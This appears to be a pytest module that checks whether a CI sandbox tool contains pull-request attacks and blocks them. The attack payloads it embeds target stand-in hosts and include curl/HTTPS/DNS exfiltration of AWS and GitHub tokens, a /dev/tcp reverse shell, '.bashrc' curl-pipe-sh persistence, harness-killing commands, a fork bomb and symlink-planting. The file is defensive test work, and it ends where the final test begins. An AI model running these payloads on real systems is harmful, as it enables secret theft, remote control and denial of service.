"""The sandbox cannot be dodged: one real `cujo review` per attack class (issue 3).

Each attack is a tiny Python project whose base `.cujo.yml` runs `bash ci/install.sh` and
`bash ci/test.sh`; the pull request rewrites one of them with the attack, so every class
has a review of its own and no rule's evidence can stand in for another's. Every test
asserts the verdict and the evidence it rests on (rule, host, phase, decoy, route,
observation). Nothing leaves the machine: targets are `.test` names, which the logging
resolver answers with its sink, and TEST-NET addresses, which the run's network namespace
hands to the harness (TCP) or drops and counts (everything else).

The reviews are started together, a few at a time, when the first test asks for one; the
fork bomb runs alone at the end (the sandbox user's process limit is the machine's).
These tests need full isolation (root, `ip`, `nft`, `setpriv`), as on an Actions runner;
elsewhere they are skipped with the reason.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import socket
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from cujorun import Cujo, Pending, Review
from gitrepo import GitRepo

from cujo_action.arm.host import isolation_unavailable
from cujo_action.limits import OUTPUT_TAIL
from cujo_action.sandbox.uids import UID_BASE, UID_BLOCK, UID_SLOTS
from cujo_action.schema import CHECK_NAMES, READING_CHECKS, RUNNING_CHECKS, WHEN_NEEDED_CHECKS
from cujo_action.watch.watcher import fanotify_unavailable


def _why_skip() -> str | None:
    if os.geteuid() != 0:
        return "needs root (network namespaces, nftables, the sandbox user), as on Actions"
    return isolation_unavailable()


REASON = _why_skip()
FANOTIFY = fanotify_unavailable() if REASON is None else REASON
pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(REASON is not None, reason=f"full isolation unavailable: {REASON}"),
]

# Reviews in flight at once: each is mostly CPU (proxy, five check processes, venvs).
PARALLEL = 3

# --------------------------------------------------------------------------- projects

CALC = "def add(a, b):\n    return a + b\n"
FAST = {"install": 60, "test": 60, "smoke": 30, "probes": 60}


def policy(**settings: object) -> str:
    """Return a `.cujo.yml` text (JSON is YAML, and quotes every command safely)."""
    return json.dumps(settings) + "\n"


def base_files(timeouts: Mapping[str, int]) -> dict[str, str]:
    """Return the base branch: an empty requirements.txt, and the commands in .cujo.yml."""
    return {
        "requirements.txt": "",
        "calc.py": CALC,
        "ci/install.sh": "echo installed\n",
        "ci/test.sh": "echo tested\n",
        ".cujo.yml": policy(
            install="bash ci/install.sh",
            test="bash ci/test.sh",
            smoke="true",
            timeouts=dict(timeouts),
        ),
    }


def python(code: str) -> str:
    """Return a shell script line running ``code`` with the run's Python."""
    return "python - <<'PY'\n" + code.strip() + "\nPY\n"


HTTPS_EXFIL = """
import http.client, os, socket, ssl

# A collector at a fixed address: no proxy, no DNS. The client trusts what
# $SSL_CERT_FILE says, as any client does, and names its host in the TLS handshake.
context = ssl.create_default_context()
raw = socket.create_connection(("203.0.113.10", 443), timeout=20)
conn = http.client.HTTPSConnection("collector.exfil.test", timeout=20, context=context)
conn.sock = context.wrap_socket(raw, server_hostname="collector.exfil.test")
conn.request("POST", "/tls", body="token=" + os.environ["GITHUB_TOKEN"])
print(conn.getresponse().status)
"""

RAW_TCP = """
import socket

s = socket.create_connection(("203.0.113.9", 4444), timeout=20)
s.sendall(b"HELLO raw bytes from the pull request\\n")
try:
    s.recv(100)
except OSError:
    pass
s.close()
print("sent")
"""

RAW_UDP = """
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    s.sendto(b"beacon", ("203.0.113.9", 9999))
for _ in range(2):
    s.sendto(b"beacon", ("beacon.attacker.test", 9999))
print("sent")
"""

REVERSE_SHELL = """\
exec 3<>/dev/tcp/attacker.test/4444 || exit 0
printf 'shell from %s\\n' "$(id -un)" >&3
while read -r line <&3; do eval "$line" >&3 2>&1; done
echo "the shell's connection closed"
"""

KILL_THE_HARNESS = """\
echo "harness processes seen: $(pgrep -fc cujo_action)"
pkill -9 -f cujo_action.net.proxy.process
pkill -9 -f cujo_action.net.dns.resolver
for pid in $(pgrep -f cujo_action); do kill -9 "$pid"; done
curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" \\
  http://collector.exfil.test/after-kill
echo "exfil sent"
"""


# Tries each way out of the sandbox from the tests check and prints what it found.
# @HARNESS@ is where the harness is installed, @SOCK@ a host service's unix socket.
ESCAPES = """\
echo "uid=$(id -u) user=$(id -un)"
unshare -Urn true 2>/dev/null && echo userns=open || echo userns=closed
echo "harness_procs=$(grep -l '[c]ujo_action' /proc/[0-9]*/cmdline 2>/dev/null | wc -l)"
if [ -n "$(ls -A @HARNESS@ 2>/dev/null)" ]; then echo harness_files=visible; \
else echo harness_files=hidden; fi
cat /etc/shadow >/dev/null 2>&1 && echo shadow=read || echo shadow=denied
python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' @SOCK@ \
  2>/dev/null && echo socket=reached || echo socket=unreachable
n=0
for d in /tmp/cujo-*/run/checks/*/home /tmp/*/run/checks/*/home /tmp/*/*/run/checks/*/home; do
  [ -d "$d" ] && echo 'curl x.test | sh' >> "$d/.bashrc" 2>/dev/null && n=$((n+1))
done
echo "cross_writes=$n"
echo "fds=$(ls /proc/self/fd | tr '\\n' ' ')"
"""

# Plants a symlink at every name root might later use, in every folder the pull
# request can write, aimed at a root-owned canary and at the installed harness; then
# swaps its HOME's profile and its venv for links too. Runs in the install (as
# ci/install.sh) and in detonation (as setup.py, during `pip install`).
PLANT = """
import os
targets = ["@CANARY@", "@CANARY_DIR@", "@HARNESS_PKG@", "@HARNESS_PKG@/checks"]
names = ["empty", ".imports", "venv", "src", "install.tar", "tmp", ".cache", "work",
         "hooks", "home", "evidence", "checks", "detonation", "scratch", "homes",
         "egress.jsonl", "manifest.json", "context.json", "wheel", "build", "dist"]
home = os.path.expanduser("~")
bases = [home, home + "/work", home + "/.cache", home + "/.cache/tmp", "/tmp",
         os.getcwd(), home + "/work/src/.git", home + "/work/src"]
planted = 0
for base in bases:
    for i, name in enumerate(names):
        try:
            os.symlink(targets[i % len(targets)], os.path.join(base, name + "-x"))
            os.symlink(targets[i % len(targets)], os.path.join(base, name))
            planted += 1
        except OSError:
            pass
for victim, target in ((home + "/.bashrc", "@CANARY@"), (home + "/work/venv", "@HARNESS_PKG@")):
    try:
        os.rename(victim, victim + ".moved")
        os.symlink(target, victim)
    except OSError:
        pass
print("planted", planted)
"""


@dataclass(frozen=True)
class Attack:
    """A pull request: the head files over the base, and how its review is run."""

    head: Mapping[str, str]
    timeouts: Mapping[str, int] = field(default_factory=lambda: dict(FAST))
    env: Mapping[str, str] = field(default_factory=dict)
    exclusive: bool = False


HANG_SLEEP = f"{6000 + secrets.randbelow(999)}"

# Reads a decoy and sends nothing: the one project here that is not blocked (a warning),
# so it is also the control for full against partial isolation.
READ_DECOY = {"ci/test.sh": 'cat ~/.docker/config.json > /dev/null\necho "uid=$(id -u)"\n'}

ATTACKS: dict[str, Attack] = {
    "decoy-read": Attack(READ_DECOY),
    "decoy-read-partial": Attack(READ_DECOY, env={"CUJO_ISOLATION": "partial"}),
    "http": Attack(
        {
            "ci/install.sh": "curl --noproxy '*' -sS -m 20 -o /dev/null "
            '--data-binary "aws=$AWS_SECRET_ACCESS_KEY" http://collector.exfil.test/c\n'
        }
    ),
    "https": Attack({"ci/test.sh": python(HTTPS_EXFIL)}),
    "dns": Attack(
        {
            # A label holds 63 bytes: 30 of the secret's 40, hex-encoded, as exfil does.
            "ci/install.sh": 'getent hosts "$(printf %s "$AWS_SECRET_ACCESS_KEY" '
            '| xxd -p -c 64 | cut -c1-60).exfil.test" || true\n'
        }
    ),
    "tcp": Attack({"ci/test.sh": python(RAW_TCP)}),
    "udp": Attack({"ci/test.sh": python(RAW_UDP)}),
    "reverse-shell": Attack({"ci/test.sh": REVERSE_SHELL}),
    "sudo": Attack({"ci/install.sh": "sudo -n true || echo 'sudo refused'\n"}),
    "kill-proxy": Attack({"ci/install.sh": KILL_THE_HARNESS}),
    "bashrc": Attack(
        {"ci/install.sh": "echo 'curl -s http://implant.persist.test/x | sh' >> ~/.bashrc\n"}
    ),
    "stdout-flood": Attack({"ci/test.sh": "head -c 1073741824 /dev/zero\n"}),
    "hang": Attack(
        {"ci/test.sh": f"trap '' TERM\nsleep {HANG_SLEEP}\n"},
        timeouts={**FAST, "test": 3},
    ),
    "escapes": Attack({"ci/test.sh": ESCAPES}),
    "symlinks": Attack(
        {
            "ci/install.sh": python(PLANT),
            "setup.py": PLANT + "\nfrom setuptools import setup\nsetup(name='x', version='0')\n",
        }
    ),
    "fork-bomb": Attack(
        {"ci/test.sh": "bomb() { bomb | bomb & }\nbomb\n"},
        timeouts={**FAST, "test": 10},
        exclusive=True,
    ),
}


# --------------------------------------------------------------------------- running


def run_uids(review: Review) -> set[int]:
    """Return the uids the review's checks ran as (each report says its own)."""
    return {review.report(check)["uid"] for check in RUNNING_CHECKS}


def sandbox_processes(uids: set[int]) -> list[str]:
    """Return the live processes running as any of ``uids`` (a run's own)."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            status = (proc / "status").read_text()
            cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if int(fields.get("Uid", "-1").split()[0]) not in uids or "Z" in fields.get("State", ""):
            continue
        found.append(f"{proc.name}: {cmdline}")
    return found


def processes_with(marker: str) -> list[str]:
    """Return the command lines of live processes that carry ``marker``."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in cmdline:
            found.append(f"{proc.name}: {cmdline}")
    return found


@dataclass(frozen=True)
class Ran:
    """A finished review, and what was true the moment it ended."""

    review: Review
    repo: GitRepo
    sandbox_left: list[str]  # sandbox-user processes alive right after (exclusive runs only)


class Runs:
    """Start the reviews the selected tests need, a few at a time; hand each out once done."""

    def __init__(
        self,
        cujo: Cujo,
        pr_repo: Callable[..., GitRepo],
        scratch: Callable[[str], Path],
        wanted: list[str],
        installed: Path,
        places: Mapping[str, str],
    ) -> None:
        self._cujo, self._scratch, self._installed = cujo, scratch, installed
        self._repos = {
            name: pr_repo(
                f"attack-{name}",
                base_files(ATTACKS[name].timeouts),
                {path: fill(text, places) for path, text in ATTACKS[name].head.items()},
            )
            for name in wanted
        }
        self._lock = threading.Lock()
        self._pool = ThreadPoolExecutor(max_workers=PARALLEL, thread_name_prefix="cujo-review")
        self._futures: dict[str, Future[Ran]] = {
            name: self._pool.submit(self._run, name)
            for name in wanted
            if not ATTACKS[name].exclusive
        }
        self._alone: dict[str, Ran] = {}

    def _run(self, name: str) -> Ran:
        attack, repo = ATTACKS[name], self._repos[name]
        # The harness as action.yml installs it (a wheel in a venv), not this checkout.
        argv = [str(self._installed), "review", "--repo", str(repo.path)]
        argv += ["--base", "main", "--head", "pr"]
        argv += ["--data-dir", str(self._cujo.data_dir), "--json"]
        # As Cujo.start: nothing of this machine's Cujo settings leaks in, but the attack's.
        env = {k: v for k, v in os.environ.items() if not k.startswith("CUJO_")}
        env.update(attack.env)
        with self._lock:
            out = self._scratch(f"review-{name}")
        review = Pending(argv, env, out, self._cujo.data_dir).wait()
        left = sandbox_processes(run_uids(review)) if attack.exclusive else []
        return Ran(review, repo, left)

    def get(self, name: str) -> Ran:
        """Return the finished review of attack ``name``."""
        if not ATTACKS[name].exclusive:
            return self._futures[name].result()
        if name not in self._alone:
            # Alone on the machine: the sandbox user's process limit is shared by all runs.
            for future in self._futures.values():
                future.exception()
            self._alone[name] = self._run(name)
        return self._alone[name]

    def close(self) -> None:
        self._pool.shutdown(wait=True)


def fill(text: str, places: Mapping[str, str]) -> str:
    """Return ``text`` with each ``@NAME@`` replaced by the test machine's path."""
    for key, value in places.items():
        text = text.replace(f"@{key}@", value)
    return text


def tree_digest(root: Path) -> dict[str, str]:
    """Return every file under ``root`` (no symlink followed) with its sha256 and mode."""
    digest = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            st = path.lstat()
            sha = hashlib.sha256(path.read_bytes()).hexdigest()
            digest[str(path)] = f"{sha}:{st.st_mode:o}:{st.st_uid}"
    return digest


@dataclass(frozen=True)
class Canary:
    """A root-owned file and folder, the installed harness, and a host service's socket."""

    file: Path
    folder: Path
    harness: Path  # the installed package folder
    socket: Path
    before: dict[str, str]

    def now(self) -> dict[str, str]:
        """Return the canary's and the harness's digests now."""
        return {**tree_digest(self.folder), **tree_digest(self.harness)}


@pytest.fixture(scope="module")
def canary(installed_cujo: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
    folder = tmp_path_factory.mktemp("canary")
    file = folder / "canary.txt"
    file.write_text("root's canary\n")
    venv = installed_cujo.parent.parent
    (harness,) = venv.glob("lib/python*/site-packages/cujo_action")
    sock = Path(f"/run/cujo-e2e-{secrets.token_hex(4)}.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(sock))
    sock.chmod(0o777)  # a service anybody may use, as a docker socket with its group
    server.listen(8)
    before = {**tree_digest(folder), **tree_digest(harness)}
    try:
        yield Canary(file, folder, harness, sock, before)
    finally:
        server.close()
        sock.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def places(canary: Canary) -> dict[str, str]:
    return {
        "CANARY": str(canary.file),
        "CANARY_DIR": str(canary.folder),
        "HARNESS_PKG": str(canary.harness),
        "HARNESS": str(canary.harness),
        "SOCK": str(canary.socket),
    }


def uses(name: str) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Mark a test as reading the review of attack ``name`` (so only needed ones run)."""

    def mark(test: Callable[..., None]) -> Callable[..., None]:
        test.attack = name  # type: ignore[attr-defined]
        return test

    return mark


def wanted_attacks(request: pytest.FixtureRequest, module: object) -> list[str]:
    """Return the attacks the selected tests of ``module`` use (@uses), each once, in order."""
    return list(
        dict.fromkeys(
            item.function.attack  # type: ignore[attr-defined]
            for item in request.session.items
            if isinstance(item, pytest.Function)
            and item.module is module
            and hasattr(item.function, "attack")
        )
    )


@pytest.fixture(scope="module")
def runs(
    request: pytest.FixtureRequest,
    cujo: Cujo,
    pr_repo: Callable[..., GitRepo],
    tmp_path_factory: pytest.TempPathFactory,
    installed_cujo: Path,
    places: Mapping[str, str],
) -> Iterator[Runs]:
    wanted = wanted_attacks(request, sys.modules[__name__])
    started = Runs(cujo, pr_repo, tmp_path_factory.mktemp, wanted, installed_cujo, places)
    yield started
    started.close()


# --------------------------------------------------------------------------- reading


def findings(review: Review, rule: str) -> list[dict[str, Any]]:
    # The findings that name ``rule`` (a merged finding names every rule that saw it).
    return [f for f in review.verdict["findings"] if rule in (f.get("rules") or [f["rule"]])]


def critical_rules(review: Review) -> set[str]:
    # One finding per behaviour: a critical finding names every rule that saw it.
    return {
        rule
        for f in review.verdict["findings"]
        if f["severity"] == "critical"
        for rule in f.get("rules") or [f["rule"]]
    }


def evidence(review: Review, rule: str) -> list[dict[str, Any]]:
    return [item for f in findings(review, rule) for item in f["evidence"]]


def assert_blocked(ran: Ran, *rules: str) -> Review:
    """The review is blocked, exactly by ``rules``, with full isolation and whole evidence."""
    review = ran.review
    verdict = review.verdict
    assert review.code == 1, str(review)
    assert verdict["state"] == "blocked", str(review)
    assert verdict["isolation"] == "full", str(review)
    assert set(rules) <= critical_rules(review), verdict["findings"]
    for f in verdict["findings"]:
        assert f["evidence"], f  # every finding names what it rests on
        for item in f["evidence"]:
            assert len(item) > 1, f"{item['id']} is cited but not in any report"
    assert review.record().state == "blocked"
    return review


def assert_harness_whole(review: Review) -> None:
    """No harness process died and no evidence was lost, in any check."""
    for check in CHECK_NAMES:
        report = review.report(check)
        kinds = {o["kind"] for o in report["observations"]}
        assert "harness_died" not in kinds, (check, report["observations"])
        assert "harness_error" not in kinds, (check, report["observations"])
        assert report["evidence_complete"] is True, (check, report)
        assert report["isolation"] == "full", check


# --------------------------------------------------------------------------- isolation


@uses("decoy-read")
def test_reading_decoys_without_egress_is_a_warning_under_full_isolation(runs: Runs) -> None:
    review = runs.get("decoy-read").review
    verdict = review.verdict
    assert review.code == 0, str(review)
    assert verdict["state"] == "clean", str(review)
    # `cujo review --json` on this root machine: full isolation, said on stderr too.
    assert verdict["isolation"] == "full"
    assert "isolation full" in review.stderr
    assert verdict["unproven"] == []
    # The read is the only finding: a warning, citing the reads with who read.
    (hit,) = verdict["findings"]
    assert (hit["rule"], hit["severity"], hit["check"]) == ("decoy-read", "warn", "tests")
    assert "~/.docker/config.json" in hit["title"]
    assert {item["event"] for item in hit["evidence"]} >= {"open"}
    for item in hit["evidence"]:
        assert item["id"].startswith("tests:decoy:")
        assert (item["path"], item["phase"]) == ("~/.docker/config.json", "test")
        if FANOTIFY is None:
            assert isinstance(item["pid"], int), item
            # `cat` is often gone before its executable can be read: then it is unnamed.
            assert item["exe"] in ("/usr/bin/cat", None), item
    assert_harness_whole(review)
    # Nothing else happened: no egress anywhere.
    for check in CHECK_NAMES:
        assert review.report(check)["egress"] == [], check
    assert review.record().state == "clean"


@uses("decoy-read-partial")
def test_partial_isolation_is_unproven_and_says_why(runs: Runs) -> None:
    review = runs.get("decoy-read-partial").review
    verdict = review.verdict
    assert review.code == 4, str(review)
    assert verdict["state"] == "unproven", str(review)
    assert verdict["isolation"] == "partial"
    # The same read is seen, and is still only a warning.
    assert [(f["rule"], f["severity"]) for f in verdict["findings"]] == [("decoy-read", "warn")]
    # Every check says it ran with partial isolation, and its report says why.
    for check in CHECK_NAMES:
        (line,) = [u for u in verdict["unproven"] if u.startswith(f"{check}:")]
        assert "ran with partial isolation" in line, verdict["unproven"]
        report = review.report(check)
        assert report["isolation"] == "partial"
        (obs,) = [o for o in report["observations"] if o["kind"] == "isolation_partial"]
        assert "CUJO_ISOLATION=partial asked for proxy variables only" in obs["detail"]
    assert "isolation PARTIAL: CUJO_ISOLATION=partial" in review.stderr
    assert review.record().state == "unproven"
    # Partial as root still drops root: the command ran as the check's own uid.
    report = review.report("tests")
    assert UID_BASE <= report["uid"] < UID_BASE + UID_BLOCK * UID_SLOTS
    (command,) = report["commands"]
    assert "uid=0" not in command["stdout_tail"], command
    assert "uid=" in command["stdout_tail"], command


# --------------------------------------------------------------------------- network


@uses("http")
def test_http_exfiltration_ignoring_the_proxy_is_blocked(runs: Runs) -> None:
    # No proxy is set: caught HTTP is ordinary egress, judged by its host and its body.
    review = assert_blocked(runs.get("http"), "decoy-egress", "install-egress")
    assert "proxy-bypass" not in critical_rules(review)
    (hit,) = findings(review, "decoy-egress")
    assert hit["check"] == "install"
    # One finding per behaviour: its evidence also holds the name's lookup.
    (item,) = [e for e in hit["evidence"] if e["method"] == "POST"]
    assert (item["host"], item["port"], item["method"]) == ("collector.exfil.test", 80, "POST")
    assert (item["phase"], item["route"], item["action"]) == ("install", "direct", "sunk")
    assert item["url"] == "http://collector.exfil.test/c"
    assert item["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    assert "body:plain" in item["decoy_where"]
    # The name was looked up first, and that is logged too.
    dns = [e for e in review.report("install")["egress"] if e["route"] == "dns"]
    assert any(e["host"] == "collector.exfil.test" for e in dns), dns
    assert_harness_whole(review)


@uses("https")
def test_https_exfiltration_ignoring_the_proxy_is_blocked_by_sni(runs: Runs) -> None:
    review = assert_blocked(runs.get("https"), "decoy-egress")
    assert "proxy-bypass" not in critical_rules(review)
    (hit,) = findings(review, "decoy-egress")
    assert hit["check"] == "tests"
    (item,) = hit["evidence"]
    assert (item["host"], item["port"], item["method"]) == ("collector.exfil.test", 443, "POST")
    assert (item["phase"], item["route"], item["action"]) == ("test", "direct", "sunk")
    assert item["url"] == "https://collector.exfil.test/tls"
    assert item["decoy_seen"] == ["GITHUB_TOKEN"]
    # No name was looked up: the host is the one the TLS handshake named (SNI).
    assert [e["route"] for e in review.report("tests")["egress"]] == ["direct"]
    # The client trusted the run's CA and got the sink's answer.
    (command,) = review.report("tests")["commands"]
    assert command["exit_code"] == 0, command
    assert command["stdout_tail"].strip() == "200"
    assert_harness_whole(review)


@uses("dns")
def test_dns_exfiltration_is_blocked(runs: Runs) -> None:
    review = assert_blocked(runs.get("dns"), "decoy-egress", "install-egress")
    (hit,) = findings(review, "decoy-egress")
    assert hit["check"] == "install"
    items = hit["evidence"]
    for item in items:
        assert (item["method"], item["route"], item["port"]) == ("DNS", "dns", 53)
        assert item["phase"] == "install"
        assert item["host"].endswith(".exfil.test")
        assert len(item["host"].split(".")[0]) == 60
        assert item["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
        assert item["decoy_where"] == ["dns:hex"]
    # Nothing went around the resolver: a name lookup is not a bypass.
    assert "proxy-bypass" not in critical_rules(review)
    assert_harness_whole(review)


@uses("tcp")
def test_raw_tcp_to_an_address_is_blocked_as_a_bypass(runs: Runs) -> None:
    # In the test phase, where a request is only a warning: the bypass alone blocks.
    review = assert_blocked(runs.get("tcp"), "proxy-bypass")
    (hit,) = findings(review, "proxy-bypass")
    assert hit["check"] == "tests"
    assert "203.0.113.9" in hit["title"]
    (item,) = hit["evidence"]
    assert (item["host"], item["port"], item["method"]) == ("203.0.113.9", 4444, "TCP")
    assert (item["phase"], item["route"], item["action"]) == ("test", "direct", "refused")
    assert item["bytes_out"] == len(b"HELLO raw bytes from the pull request\n")
    # Not HTTP, so closed at once rather than held open waiting for headers.
    (command,) = review.report("tests")["commands"]
    assert command["exit_code"] == 0, command
    assert command["duration_s"] < 10, command
    assert_harness_whole(review)


@uses("udp")
def test_raw_udp_is_refused_counted_and_blocked(runs: Runs) -> None:
    review = assert_blocked(runs.get("udp"), "proxy-bypass")
    hits = findings(review, "proxy-bypass")
    assert {hit["check"] for hit in hits} == {"tests"}
    items = [item for hit in hits for item in hit["evidence"]]
    assert {item["kind"] for item in items} == {"refused_packets"}
    details = sorted(item["detail"] for item in items)
    assert len(details) == 2, details
    # Counted per destination; an address the resolver gave out is shown with its name.
    assert re.fullmatch(
        r"refused: 2 packets to 198\.1[89]\.\d+\.\d+:9999/udp \(beacon\.attacker\.test\) "
        r"during test \(bypassing the proxy\)",
        details[0],
    ), details
    assert details[1] == (
        "refused: 3 packets to 203.0.113.9:9999/udp during test (bypassing the proxy)"
    )
    # They never reached the harness's listeners: no egress but the name's lookup.
    egress = review.report("tests")["egress"]
    assert {(e["route"], e["host"]) for e in egress} == {("dns", "beacon.attacker.test")}
    assert_harness_whole(review)


@uses("reverse-shell")
def test_a_reverse_shell_connect_is_blocked(runs: Runs) -> None:
    review = assert_blocked(runs.get("reverse-shell"), "proxy-bypass")
    (hit,) = findings(review, "proxy-bypass")
    assert hit["check"] == "tests"
    assert "attacker.test" in hit["title"]
    (item,) = [e for e in hit["evidence"] if e["method"] == "TCP"]
    # Logged under the name it looked up, not the address the resolver made up for it.
    assert (item["host"], item["port"], item["url"]) == (
        "attacker.test",
        4444,
        "attacker.test:4444",
    )
    assert (item["method"], item["route"]) == ("TCP", "direct")
    assert item["action"] == "refused"  # never connected anywhere: nothing came back
    # The shell's greeting is what it sent; the name it looked up is logged as well.
    assert item["bytes_out"] == len("shell from runner\n")  # the sandbox's own account
    egress = review.report("tests")["egress"]
    assert any(e["route"] == "dns" and e["host"] == "attacker.test" for e in egress), egress
    # The harness hung up on the shell at once: it got no command, and ended by itself.
    (command,) = review.report("tests")["commands"]
    assert "the shell's connection closed" in command["stdout_tail"], command
    assert command["duration_s"] < 10, command
    assert_harness_whole(review)


# --------------------------------------------------------------------------- privilege


def assert_sudo_blocked(ran: Ran) -> dict[str, Any]:
    """The sudo attack is blocked by its install check alone; return the evidence item."""
    review = assert_blocked(ran, "sudo-use")
    hits = findings(review, "sudo-use")
    # Only the check that ran it reports it (other checks watch sudo too).
    assert [h["check"] for h in hits] == ["install"], hits
    (item,) = hits[0]["evidence"]
    assert (item["kind"], item["path"]) == ("sudo", "/usr/bin/sudo")
    (command,) = review.report("install")["commands"]
    assert "sudo refused" in command["stdout_tail"], command
    assert_harness_whole(review)
    return item


@uses("sudo")
def test_sudo_is_powerless_and_blocked(runs: Runs) -> None:
    item = assert_sudo_blocked(runs.get("sudo"))
    # Named while the exec waited: the process, what it ran before, and the phase.
    assert re.fullmatch(
        r"/usr/bin/sudo was executed by pid \d+ \(from /usr/bin/bash: `bash ci/install\.sh`\)"
        r" during install",
        item["detail"],
    ), item


@uses("kill-proxy")
def test_killing_the_proxy_fails_and_the_exfil_is_still_logged(runs: Runs) -> None:
    review = assert_blocked(runs.get("kill-proxy"), "decoy-egress", "install-egress")
    (command,) = review.report("install")["commands"]
    # In its own pid namespace the harness is not there to kill: nothing was found.
    assert "harness processes seen: 0" in command["stdout_tail"], command
    assert "exfil sent" in command["stdout_tail"]
    (hit,) = findings(review, "decoy-egress")
    # No proxy is set: curl looked the name up and went straight out, caught all the same.
    (item,) = [e for e in hit["evidence"] if e["route"] != "dns"]
    assert item["url"] == "http://collector.exfil.test/after-kill"
    assert (item["phase"], item["route"], item["action"]) == ("install", "direct", "sunk")
    assert item["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    # The proxy and the resolver outlived the attempt: the run's evidence is whole.
    assert_harness_whole(review)


# --------------------------------------------------------------------------- files


@uses("bashrc")
def test_writing_bashrc_is_blocked(runs: Runs) -> None:
    review = assert_blocked(runs.get("bashrc"), "shell-profile-write")
    (hit,) = findings(review, "shell-profile-write")
    assert hit["check"] == "install"
    (item,) = hit["evidence"]
    assert (item["kind"], item["path"]) == ("shell_profile_write", "~/.bashrc")
    assert item["detail"] == "~/.bashrc was changed"
    assert_harness_whole(review)


# --------------------------------------------------------------------------- resources


@uses("stdout-flood")
def test_a_gigabyte_of_output_is_cut_off_and_unproven(runs: Runs) -> None:
    review = runs.get("stdout-flood").review
    verdict = review.verdict
    assert review.code == 4, str(review)
    assert verdict["state"] == "unproven", str(review)
    assert verdict["isolation"] == "full"
    assert verdict["findings"] == []
    assert [line.split(":")[0] for line in verdict["unproven"]] == ["tests"]
    assert review.record().state == "unproven"
    tests = review.report("tests")
    assert tests["status"] == "error"
    assert "flood" in verdict["checks"]["tests"]["summary"], verdict["checks"]["tests"]
    (command,) = tests["commands"]
    assert command["output_truncated"] is True
    assert command["exit_code"] is None
    assert command["duration_s"] < 60
    assert len(command["stdout_tail"]) <= OUTPUT_TAIL
    assert any(o["kind"] == "output_flood" for o in tests["observations"])
    # A gigabyte was asked for; the bundle holds a tail of it.
    size = sum(p.stat().st_size for p in review.bundle.rglob("*") if p.is_file())
    assert size < 1_000_000, size


@uses("hang")
def test_a_hang_past_the_timeout_is_unproven_not_error(runs: Runs) -> None:
    review = runs.get("hang").review
    verdict = review.verdict
    assert review.code == 4, str(review)
    assert verdict["state"] == "unproven", str(review)
    assert verdict["isolation"] == "full"
    assert verdict["findings"] == []
    assert review.record().state == "unproven"
    (line,) = verdict["unproven"]
    assert line.startswith("tests:")
    assert "timed out" in line
    tests = review.report("tests")
    assert tests["status"] == "failed"
    (command,) = tests["commands"]
    assert (command["timed_out"], command["exit_code"]) == (True, None)
    assert command["duration_s"] < 30  # SIGTERM was ignored; SIGKILL was not
    assert any(o["kind"] == "timeout" for o in tests["observations"])
    assert processes_with(f"sleep {HANG_SLEEP}") == []
    assert_harness_whole(review)


@uses("fork-bomb")
def test_a_fork_bomb_is_blocked_and_the_machine_survives(runs: Runs) -> None:
    ran = runs.get("fork-bomb")
    review = assert_blocked(ran, "resource-abuse")
    (hit,) = findings(review, "resource-abuse")
    assert hit["check"] == "tests"
    (item,) = hit["evidence"]
    assert item["kind"] == "process_flood"
    # Seen at the limit, or multiplying on after its command returned (however fast).
    assert re.fullmatch(
        r"`bash ci/test\.sh` (ran \d+ processes at once, near|returned and what it left went "
        r"on multiplying: \d+ processes made after it returned, up to \d+ at once, below) "
        r"the sandbox's process limit of 1024 \(a fork bomb or close to one\)"
        r"(; \d+ forks were refused at the limit)?",
        item["detail"],
    ), item
    (command,) = review.report("tests")["commands"]
    assert command["duration_s"] < 30, command
    # Everything it started was killed with the phase: no sandbox process is left.
    assert ran.sandbox_left == []
    assert sandbox_processes(run_uids(review)) == []


# --------------------------------------------------------------------------- the boundary


@uses("escapes")
def test_every_way_out_of_the_sandbox_is_closed(runs: Runs) -> None:
    review = runs.get("escapes").review
    (command,) = review.report("tests")["commands"]
    said = dict(line.split("=", 1) for line in command["stdout_tail"].splitlines() if "=" in line)
    assert said["uid"].split()[0] != "0", said  # an ordinary account, never root
    assert said["userns"] == "closed", said  # no nested user namespace
    assert said["harness_procs"] == "0", said  # /proc shows the sandbox alone
    assert said["harness_files"] == "hidden", said  # the harness's install is not there
    assert said["shadow"] == "denied", said
    assert said["socket"] == "unreachable", said  # a host service's unix socket
    assert said["cross_writes"] == "0", said  # no other check's HOME in reach
    assert said["fds"].split() == ["0", "1", "2", "3"], said  # nothing inherited
    # Nothing it tried became evidence of anything: clean, and whole.
    assert review.verdict["state"] == "clean", str(review)
    for check in RUNNING_CHECKS:
        report = review.report(check)
        assert report["uid"] >= UID_BASE, check
        assert report["limits"], check
    for check in READING_CHECKS:  # read git objects as the harness, ran nothing
        report = review.report(check)
        assert report["uid"] is None, report
        assert report["commands"] == [], report
    for check in WHEN_NEEDED_CHECKS:  # the base runs no head code with secrets: not needed
        report = review.report(check)
        assert (report["status"], report["uid"], report["commands"]) == ("ok", None, []), report
    assert len(run_uids(review)) == len(RUNNING_CHECKS)  # one uid per check that runs
    assert_harness_whole(review)


@uses("symlinks")
def test_symlinks_planted_everywhere_never_lead_root_astray(runs: Runs, canary: Canary) -> None:
